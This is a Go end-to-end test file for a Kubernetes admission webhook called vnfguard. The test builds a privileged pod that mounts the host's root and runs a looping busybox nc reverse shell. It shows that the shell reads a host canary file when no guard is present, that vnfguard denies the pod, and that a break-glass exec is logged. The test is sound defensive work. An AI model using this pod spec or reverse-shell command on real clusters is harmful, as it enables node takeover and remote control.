package node

import (
	"bufio"
	"context"
	"crypto/rand"
	"encoding/hex"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/vnfguard/vnfguard/internal/finding"
	"github.com/vnfguard/vnfguard/internal/lab"
)

// protectedNS is a protected namespace (lab.ConfigYAML's selector) with a benign pod of no VNF instance in it.
const protectedNS = "vnf-node"

// peirates is the Peirates "hostpath mount" pod on the real node: privileged, the host's root file system at /host,
// and busybox nc's reverse shell to host:port (retried every second, so that the listener may come later).
func peirates(n *lab.Node, name string, host net.IP, port int) *corev1.Pod {
	shell := "while true; do nc " + host.String() + " " + strconv.Itoa(port) + " -e /bin/sh; sleep 1; done"
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: lab.Sandbox, Labels: map[string]string{"app": "peirates"}},
		Spec: corev1.PodSpec{
			NodeName:                      n.Name,
			AutomountServiceAccountToken:  ptr(false),
			TerminationGracePeriodSeconds: ptr[int64](1),
			Containers: []corev1.Container{{
				Name: "attack", Image: n.Images.VNF, ImagePullPolicy: corev1.PullIfNotPresent,
				Command:         []string{"/bin/sh", "-c", shell},
				SecurityContext: &corev1.SecurityContext{Privileged: ptr(true)},
				VolumeMounts:    []corev1.VolumeMount{{Name: "host-root", MountPath: "/host"}},
			}},
			Volumes: []corev1.Volume{{Name: "host-root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}},
		},
	}
}

func TestRealNode(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Fatal("the real node (kubelet, containerd, a bridge) needs root")
	}
	if err := lab.CheckNodeBinaries(lab.DefaultBinDir()); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	binary, err := lab.PrepareE2E(dir, false)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 8*time.Minute) // includes waiting for the real-node lock
	defer cancel()
	logger := slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelInfo}))
	started := time.Now()
	cp, err := lab.Start(ctx, lab.Options{BinDir: lab.DefaultBinDir(), WorkDir: filepath.Join(dir, "lab"), Logger: logger, RealNode: true})
	if err != nil {
		t.Fatal(err)
	}
	defer cp.Stop()
	node := cp.RealNode()
	t.Logf("control plane and real node %s Ready in %.1f s (pod network %s)", node.Name, time.Since(started).Seconds(), node.PodCIDR)
	scenarioStart := time.Now()

	if err := cp.EnsureNamespace(ctx, lab.Sandbox, nil); err != nil {
		t.Fatal(err)
	}
	if err := cp.EnsureNamespace(ctx, protectedNS, map[string]string{"vnfguard.io/protected": "true"}); err != nil {
		t.Fatal(err)
	}
	admin, _ := cp.ClientFor(lab.Admin)
	attacker, _ := cp.ClientFor(lab.Attacker)

	// A benign pod in the protected namespace, for the break-glass exec once vnfguard runs.
	benign := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "debug-target", Namespace: protectedNS},
		Spec: corev1.PodSpec{
			NodeName: node.Name, AutomountServiceAccountToken: ptr(false), TerminationGracePeriodSeconds: ptr[int64](1),
			Containers: []corev1.Container{{Name: "app", Image: node.Images.VNF, Command: []string{"/bin/sleep", "3600"}}},
		},
	}
	if _, err := admin.CoreV1().Pods(protectedNS).Create(ctx, benign, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}

	// (a) Control run, vnfguard not registered: the attack is real.
	canaryDir := t.TempDir()
	canaryFile := filepath.Join(canaryDir, "canary")
	canary := "canary-" + randomHex(t)
	if err := os.WriteFile(canaryFile, []byte(canary+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", net.JoinHostPort(node.Gateway.String(), "0"))
	if err != nil {
		t.Fatalf("listen on the host's pod-network address %s: %v", node.Gateway, err)
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	podStart := time.Now()
	if _, err := attacker.CoreV1().Pods(lab.Sandbox).Create(ctx, peirates(node, "peirates", node.Gateway, port), metav1.CreateOptions{}); err != nil {
		t.Fatalf("control run: the Peirates pod was refused without vnfguard: %v", err)
	}
	if err := lab.WaitPodRunning(ctx, admin, lab.Sandbox, "peirates", time.Minute); err != nil {
		t.Fatal(err)
	}
	t.Logf("control run: Peirates pod Running %.1f s after create", time.Since(podStart).Seconds())
	got := reverseShell(t, ln, "cat /host"+canaryFile)
	if !strings.Contains(got, canary) {
		t.Fatalf("control run: the reverse shell answered %q, want the canary %s read through the hostPath mount", got, canary)
	}
	t.Logf("control run: the reverse shell reached %s:%d and read the host's %s through /host: %q", node.Gateway, port, canaryFile, strings.TrimSpace(got))

	// (b) vnfguard registered: the same pod is denied.
	inventory := filepath.Join(dir, "inventory.yaml")
	if _, err := lab.NewNFVO(inventory, lab.UPF, lab.UDR).Write(); err != nil {
		t.Fatal(err)
	}
	configPath, err := lab.WriteConfig(dir, inventory)
	if err != nil {
		t.Fatal(err)
	}
	guard, err := cp.StartVNFGuard(ctx, binary, configPath)
	if err != nil {
		t.Fatal(err)
	}
	before := guard.FindingCount()
	_, err = attacker.CoreV1().Pods(lab.Sandbox).Create(ctx, peirates(node, "peirates-2", node.Gateway, port), metav1.CreateOptions{})
	if !lab.IsWebhookDenial(err) {
		t.Fatalf("with vnfguard: creating the Peirates pod gave %v, want an admission-webhook denial", err)
	}
	for _, check := range []string{"host-takeover", "reverse-shell"} {
		if !strings.Contains(err.Error(), "["+check+" ") {
			t.Errorf("denial does not name %s: %v", check, err)
		}
	}
	denials := waitFor(ctx, guard, before, func(f finding.Finding) bool { return f.Action == "denied" && f.Identity == lab.Attacker })
	for _, check := range []string{"host-takeover", "reverse-shell"} {
		if !slices.ContainsFunc(denials, func(f finding.Finding) bool { return f.Rule == check }) {
			t.Errorf("no %s denial finding for %s; findings: %v", check, lab.Attacker, rules(denials))
		}
	}
	if _, err := admin.CoreV1().Pods(lab.Sandbox).Get(ctx, "peirates-2", metav1.GetOptions{}); err == nil {
		t.Error("the denied pod exists")
	}
	t.Logf("with vnfguard: the same pod is denied: %v; findings: %v", err, rules(denials))

	// (c) Break-glass: the on-call engineer's exec into the running pod prints the command's output and is recorded.
	before = guard.FindingCount()
	_, oncall := cp.ClientFor(lab.BreakGlass)
	execCtx, execCancel := context.WithTimeout(ctx, 30*time.Second)
	defer execCancel()
	stdout, stderr, err := lab.ExecOutput(execCtx, oncall, protectedNS, "debug-target", "", []string{"/bin/sh", "-c", "echo break-glass-ok $(hostname)"})
	if err != nil {
		t.Fatalf("break-glass exec: %v (stderr %q)", err, stderr)
	}
	if want := "break-glass-ok debug-target"; strings.TrimSpace(stdout) != want {
		t.Fatalf("break-glass exec printed %q, want %q", stdout, want)
	}
	bg := waitFor(ctx, guard, before, func(f finding.Finding) bool { return f.Rule == "break-glass" })
	i := slices.IndexFunc(bg, func(f finding.Finding) bool { return f.Rule == "break-glass" })
	if i < 0 {
		t.Fatalf("the break-glass exec left no break-glass finding; findings: %v", rules(bg))
	}
	if f := bg[i]; f.Identity != lab.BreakGlass || f.Object.Subresource != "exec" || f.Object.Name != "debug-target" {
		t.Errorf("break-glass finding names %s on %s, want %s on pods/exec debug-target", f.Identity, f.Object, lab.BreakGlass)
	}
	t.Logf("break-glass exec by %s printed %q through the API server and the kubelet; finding: %s", lab.BreakGlass, strings.TrimSpace(stdout), bg[i].Message)

	t.Logf("attack, denial and break-glass on the real node took %.1f s", time.Since(scenarioStart).Seconds())

	// Stop leaves nothing of the node behind: no mount, cgroup, bridge or host path it made, the kernel settings
	// the kubelet changed written back.
	stopStart := time.Now()
	cp.Stop()
	if left := node.Leftovers(); len(left) > 0 {
		t.Errorf("after Stop, the node left: %v", left)
	}
	t.Logf("Stop took %.1f s and left nothing of the node behind", time.Since(stopStart).Seconds())
}

// reverseShell accepts the pod's connection (at most 60 s), sends command and returns what came back (at most 10 s).
func reverseShell(t *testing.T, ln net.Listener, command string) string {
	t.Helper()
	ln.(*net.TCPListener).SetDeadline(time.Now().Add(60 * time.Second))
	conn, err := ln.Accept()
	if err != nil {
		t.Fatalf("control run: no reverse shell reached the listener: %v", err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := conn.Write([]byte(command + "; exit\n")); err != nil {
		t.Fatalf("control run: send %q to the reverse shell: %v", command, err)
	}
	var out strings.Builder
	sc := bufio.NewScanner(conn)
	for sc.Scan() {
		out.WriteString(sc.Text() + "\n")
	}
	return out.String()
}

// waitFor returns the findings printed after the first n once one matches (at most 15 s).
func waitFor(ctx context.Context, g *lab.Guard, n int, match func(finding.Finding) bool) []finding.Finding {
	deadline := time.Now().Add(15 * time.Second)
	var got []finding.Finding
	for time.Now().Before(deadline) {
		got = g.WaitFindings(ctx, n, time.Until(deadline))
		if slices.ContainsFunc(got, match) {
			return got
		}
		time.Sleep(100 * time.Millisecond)
	}
	return got
}

func rules(fs []finding.Finding) []string {
	out := make([]string, len(fs))
	for i, f := range fs {
		out[i] = f.Action + " " + f.Rule + " by " + f.Identity
	}
	return out
}

func randomHex(t *testing.T) string {
	b := make([]byte, 8)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(b)
}

func ptr[T any](v T) *T { return &v }
